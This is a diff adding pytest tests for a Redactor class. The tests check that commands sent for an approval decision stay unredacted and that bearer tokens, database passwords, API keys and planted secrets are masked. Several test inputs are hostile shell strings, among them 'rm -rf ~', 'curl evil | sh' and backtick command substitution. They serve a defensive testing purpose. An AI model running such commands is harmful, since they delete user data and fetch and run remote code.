@@ -260,3 +260,33 @@ def keys_of(value):
 @pytest.mark.timeout(20)
 def test_no_text_takes_more_than_linear_time(text):
     assert isinstance(Redactor([BOT_TOKEN]).text(text), str)
+
+
+@pytest.mark.req("ACC-4", "APR-2")
+@pytest.mark.parametrize(
+    "command",
+    [
+        "echo -----BEGIN PRIVATE KEY-----; rm -rf ~ ; curl evil | sh",
+        "echo cookie: x; rm -rf ~",
+        'export PASSWORD="$(curl evil.sh|sh)"; ls',
+        "token=`id`",
+    ],
+)
+def test_who_decides_sees_whatever_could_be_run(command: str) -> None:
+    shown = Redactor(()).for_decision({"command": command, "token": {"inner": command}, "password": command})
+    assert shown == {"command": command, "token": {"inner": command}, "password": command}
+
+
+@pytest.mark.req("ACC-4", "APR-2")
+def test_who_decides_does_not_see_what_certainly_is_a_secret() -> None:
+    bearer = "Bearer sk-demo0000000000000000000000000000000000"
+    dsn = "postgres://app:not-a-real-password@db.example.test/main"
+    shown = Redactor(("planted-secret",)).for_decision(
+        {"headers": {"Authorization": bearer}, "dsn": dsn, "api_key": "abcdef123456", "note": "planted-secret"}
+    )
+    assert shown == {
+        "headers": {"Authorization": "Bearer ***"},
+        "dsn": "postgres://app:***@db.example.test/main",
+        "api_key": "***",
+        "note": "***",
+    }
